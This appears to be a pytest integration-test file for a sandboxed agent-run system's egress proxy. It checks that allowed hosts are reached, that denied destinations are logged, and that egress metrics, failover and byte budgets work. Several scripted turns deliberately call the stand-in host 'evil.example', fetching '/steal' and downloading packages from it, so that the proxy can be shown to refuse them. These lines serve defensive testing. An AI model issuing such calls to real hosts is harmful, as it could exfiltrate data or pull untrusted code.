"""A run whose network allows a host, end to end: its tools reach that host through the
worker's egress proxy, and a refused destination is in the step's transcript entry."""

from __future__ import annotations

import uuid
from pathlib import Path
from typing import Any

import pytest
from temporalio.client import Client
from tether import client as tether

from tests.egress.git_server import README, git_server, make_repository
from tests.egress.package_index import PROBE, pip_zip, write_index
from tests.egress.servers import directory_server, http_server
from tests.helpers import free_port, wait_for
from tests.sandbox.attacks import RUNTIMES, require
from tests.scripts import scripted_run, turn
from tests.test_metrics import scrape, value
from tests.workflows.worker_process import WorkerProcess

FETCH = """
import urllib.error, urllib.request
try:
    print(urllib.request.urlopen("{url}", timeout=20).read().decode())
except urllib.error.HTTPError as error:
    print(error.code, error.read().decode())
"""


async def test_a_run_reaches_its_allowed_host_and_its_transcript_says_what_was_denied(
    temporal_client: Client, worker: str
) -> None:
    # 127.0.0.2: the host's loopback, which the sandbox's NO_PROXY (its own loopback) leaves alone.
    with http_server(host="127.0.0.2") as port:
        handle = await tether.start_run(temporal_client, scripted_run(
            "fetch", turn(python=FETCH.format(url=f"http://127.0.0.2:{port}/hello")),
            turn(python=FETCH.format(url="http://evil.example/steal")), turn("done"),
            sandbox={"network": {"allow": [f"127.0.0.2:{port}"]}}), task_queue=worker)
        result = await handle.result()
    assert result.status == "completed", result
    first, second, _ = await tether.get_transcript(temporal_client, handle.id)
    assert first.tool_results[0].stdout == f"hello from {port}, host 127.0.0.2:{port}\n"
    assert first.note is None
    assert second.tool_results[0].stdout.startswith("403 tether egress: evil.example:80 refused")
    assert second.tool_results[0].egress_denied == ["evil.example:80"]
    assert "[tether: egress denied evil.example:80]" in second.tool_results[0].stderr
    assert second.note == "python: egress denied evil.example:80"


@pytest.mark.parametrize("runtime", RUNTIMES)
async def test_a_run_clones_a_repository_from_its_allowed_server_and_a_clone_from_another_port_is_denied(
    temporal_client: Client, worker: str, tmp_path: Path, runtime: str
) -> None:
    make_repository(tmp_path)
    with git_server(tmp_path, host="127.0.0.2") as port, git_server(tmp_path, host="127.0.0.2") as other:
        handle = await tether.start_run(temporal_client, scripted_run(
            "clone", turn(shell=f"git clone -q http://127.0.0.2:{port}/repo.git && cat repo/README"),
            turn(shell=f"git clone -q http://127.0.0.2:{other}/repo.git other"), turn("done"),
            sandbox={"network": {"allow": [f"127.0.0.2:{port}"]}, "runtime": require(runtime)}),
            task_queue=worker)
        result = await handle.result()
    assert result.status == "completed", result
    first, second, _ = await tether.get_transcript(temporal_client, handle.id)
    assert first.tool_results[0].stdout == README and first.note is None
    assert "returned error: 403" in second.tool_results[0].stderr
    assert second.tool_results[0].egress_denied == [f"127.0.0.2:{other}"]
    assert second.note == f"shell: egress denied 127.0.0.2:{other}"


@pytest.mark.parametrize("runtime", RUNTIMES)
async def test_a_run_installs_a_package_from_its_allowed_index_and_another_index_is_denied(
    temporal_client: Client, worker: str, tmp_path: Path, runtime: str
) -> None:
    index = tmp_path / "index"
    write_index(index)
    (tmp_path / "pip.zip").write_bytes(pip_zip())  # the image has python3, not pip: a run brings its own
    pip = "python3 pip.zip {} --disable-pip-version-check --no-cache-dir --retries 0"
    with directory_server(index, host="127.0.0.2") as port:
        handle = await tether.start_run(temporal_client, scripted_run(
            "install",
            turn(shell=pip.format("install") + f" --index-url http://127.0.0.2:{port}/simple/ --target lib"
                 f" {PROBE} && PYTHONPATH=lib python3 -c 'import {PROBE}; print({PROBE}.HELLO)'"),
            turn(shell=pip.format("download") + " --trusted-host evil.example"
                 f" --index-url http://evil.example/simple/ -d dl {PROBE}"),
            turn("done"),
            sandbox={"network": {"allow": [f"127.0.0.2:{port}"]}, "runtime": require(runtime)}),
            task_queue=worker, files=[tmp_path / "pip.zip"])
        result = await handle.result()
    assert result.status == "completed", result
    first, second, _ = await tether.get_transcript(temporal_client, handle.id)
    assert first.tool_results[0].stdout.splitlines()[-1] == "installed through the egress proxy", (
        first.tool_results[0].stderr)
    assert first.note is None
    assert second.tool_results[0].exit_code != 0
    assert second.tool_results[0].egress_denied == ["evil.example:80"]
    assert second.note == "shell: egress denied evil.example:80"


async def test_a_worker_counts_its_egress_decisions_and_bytes_for_prometheus(
    temporal_client: Client, docker_engine: Any, tmp_path: Path
) -> None:
    queue = f"egress-{uuid.uuid4().hex[:6]}"
    bind = f"127.0.0.1:{free_port()}"
    worker = WorkerProcess(temporal_client, task_queue=queue, worker_id=queue,
                           log_file=tmp_path / "worker.log",
                           env={"TETHER_METRICS_BIND": bind, "TETHER_TRACE_FILE": "off"})
    await worker.start()
    try:
        with http_server(host="127.0.0.2") as port:
            result = await tether.run(temporal_client, scripted_run(
                "fetch", turn(python=[FETCH.format(url=f"http://127.0.0.2:{port}/hello"),
                                      FETCH.format(url="http://evil.example/steal")]), turn("done"),
                sandbox={"network": {"allow": [f"127.0.0.2:{port}"]}}), task_queue=queue)
            assert result.status == "completed", result
        samples = scrape(bind)
        assert value(samples, "tether_egress_requests_total", decision="allowed") == 1
        assert value(samples, "tether_egress_requests_total", decision="denied") == 1
        assert value(samples, "tether_egress_bytes_total", direction="received") == len(
            f"hello from {port}, host 127.0.0.2:{port}")
        log = (tmp_path / "worker.log").read_text()
        assert "egress denied evil.example:80" in log and f"egress allowed 127.0.0.2:{port}" in log
    finally:
        await worker.stop()


async def test_a_run_keeps_its_way_out_when_its_worker_dies_and_a_successor_takes_over(
    temporal_client: Client, docker_engine: Any, tmp_path: Path
) -> None:
    queue = f"egress-{uuid.uuid4().hex[:6]}"
    log_file = tmp_path / "worker.log"
    first = WorkerProcess(temporal_client, task_queue=queue, worker_id=queue, log_file=log_file)
    await first.start()
    second = WorkerProcess(temporal_client, task_queue=queue, worker_id=queue, log_file=log_file)
    try:
        with http_server(host="127.0.0.2") as port:
            hello = FETCH.format(url=f"http://127.0.0.2:{port}/hello")
            handle = await tether.start_run(temporal_client, scripted_run(
                "fetch", turn(python=hello), {**turn(python=hello), "delay_seconds": 3}, turn("done"),
                sandbox={"network": {"allow": [f"127.0.0.2:{port}"]}}), task_queue=queue)
            await wait_for(lambda: first_step_done(temporal_client, handle.id), timeout=60,
                           what="the first fetch")
            await first.kill()  # its proxy, and the sandbox's socket, go with it
            await second.start()
            result = await handle.result()
        assert result.status == "completed", result
        steps = await tether.get_transcript(temporal_client, handle.id)
        assert [s.tool_results[0].stdout for s in steps[:2]] == [
            f"hello from {port}, host 127.0.0.2:{port}\n"] * 2
    finally:
        await second.stop()
        await first.stop()


async def first_step_done(client: Client, workflow_id: str) -> bool:
    return any(step.tool_results for step in await tether.get_transcript(client, workflow_id))


async def test_a_run_past_its_egress_budget_ends_as_budget_exhausted_naming_it(
    temporal_client: Client, worker: str
) -> None:
    with http_server(host="127.0.0.2") as port:
        download = f"import urllib.request; print(len(urllib.request.urlopen('http://127.0.0.2:{port}/bytes/2').read()))"
        result = await tether.run(temporal_client, scripted_run(
            "fetch", turn(python=download), turn(python=download), turn("done"),
            sandbox={"network": {"allow": [f"127.0.0.2:{port}"]}}, budget={"max_egress_mb": 1}),
            task_queue=worker)
    assert result.status == "budget_exhausted", result
    assert result.stop_reason.startswith("max_egress_mb reached: 2.0 of 1 MiB through the egress proxy")
    assert result.steps == 1
